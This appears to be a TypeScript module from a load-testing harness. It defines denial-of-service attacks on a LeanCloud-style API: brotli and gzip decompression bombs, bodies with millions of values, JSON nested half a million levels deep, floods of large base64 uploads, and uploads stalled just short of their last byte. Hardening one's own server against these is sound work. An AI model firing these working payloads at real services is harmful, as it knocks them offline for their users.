import { brotliCompressSync, constants, gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import type { Attacker } from '../attacker.ts'

const MB = 1024 * 1024
const PLAIN_TEXT = { 'Content-Type': 'text/plain' }

/** Attacks with bodies that cost the server more than the attacker. */
export const BODY_ATTACKS: readonly Attack[] = [
  {
    name: 'compressed-bombs',
    what: 'a few bytes of brotli and gzip that become 20 MB of JSON, without a key',
    run: async (attacker) => {
      const zeros = Buffer.from(`{"a":"${'0'.repeat(20 * MB - 20)}"}`)
      const brotli = brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } })
      const bombs = [
        { 'Content-Encoding': 'br', body: brotli },
        { 'Content-Encoding': 'gzip', body: gzipSync(zeros) },
      ]
      await attacker.flood(32, (n) => {
        const { body, ...headers } = bombs[n % 2]!
        return attacker.send({ path: '/1.1/classes/Bomb', body, headers, asClient: n % 4 > 1 })
      })
    },
  },
  {
    name: 'many-values',
    what: 'bodies of 19 MB with millions of members and lists, with the app key',
    run: (attacker) => {
      const members = Array.from({ length: 1_200_000 }, (_, n) => `"f${n}":{}`).join(',')
      const bodies = [`{"a":[${'[],'.repeat(6_000_000)}0]}`, `{"a":{${members}}}`]
      return attacker.flood(3, (n) => attacker.send({ path: '/1.1/classes/Valued', body: bodies[n % 2]! }))
    },
  },
  {
    name: 'deep-bodies',
    what: 'bodies of 1 MB that are nested half a million deep, as object, condition, tunnel and batch',
    run: (attacker) => {
      const deep = '['.repeat(MB / 2 - 100) + ']'.repeat(MB / 2 - 100)
      const sent = [
        { path: '/1.1/classes/Deep', body: `{"a":${deep}}` },
        { path: '/1.1/batch', body: `{"requests":${deep}}` },
        { path: '/1.1/classes/Item', body: `{"_method":"GET","where":${deep}}`, headers: PLAIN_TEXT },
        { path: '/1.1/LiveQuery/subscribe', body: `{"id":"x","query":{"className":"Item","where":{"a":${deep}}}}` },
      ]
      return attacker.flood(8, (n) => attacker.send(sent[n % sent.length]!))
    },
  },
  {
    name: 'tunnel-bodies',
    what: 'tunnelled bodies of just below 1 MB with very many values, without a key',
    run: (attacker) => {
      const body = `{"_method":"GET","where":{"a":{"$in":[${'1,'.repeat(MB / 2 - 100)}0]}}}`
      return attacker.flood(16, () =>
        attacker.send({ path: '/1.1/classes/Item', body, headers: PLAIN_TEXT, asClient: false }),
      )
    },
  },
  {
    name: 'base64-files',
    what: 'files of 650 KB as base64 in JSON, 64 at a time',
    run: (attacker) => sendFiles(attacker, 64, 650 * 1024),
  },
  {
    name: 'large-base64-files',
    what: 'files of 14 MB as base64 in JSON, 8 at a time',
    run: (attacker) => sendFiles(attacker, 8, 14 * MB),
  },
  {
    name: 'stalled-uploads',
    what: 'bodies of 20 MB of which the last byte never comes',
    run: async (attacker) => {
      const bytes = Buffer.alloc(19 * MB, 0x20)
      const held = Array.from({ length: 64 }, (_, n) => stall(attacker, bytes, n % 2 === 0))
      await attacker.untilStopped()
      for (const socket of held) socket.destroy()
    },
  },
]

/** @param size number of base64 characters */
function sendFiles(attacker: Attacker, connections: number, size: number): Promise<void> {
  const body = JSON.stringify({ base64: 'QUJD'.repeat(size / 4), _ContentType: 'application/octet-stream' })
  return attacker.flood(connections, (n) => attacker.send({ path: `/1.1/files/${n}.bin`, body }))
}

function stall(attacker: Attacker, bytes: Buffer, asClient: boolean) {
  const { appId, appKey } = attacker.target
  const socket = attacker.socket()
  const keys = asClient ? `X-LC-Id: ${appId}\r\nX-LC-Key: ${appKey}\r\n` : ''
  socket.write(
    `POST /1.1/classes/Stalled HTTP/1.1\r\nHost: x\r\n${keys}Content-Type: application/json\r\nContent-Length: ${20 * MB}\r\n\r\n`,
  )
  socket.write(bytes)
  socket.on('data', (chunk) => attacker.count(chunk.toString('latin1').slice(9, 12)))
  return socket
}
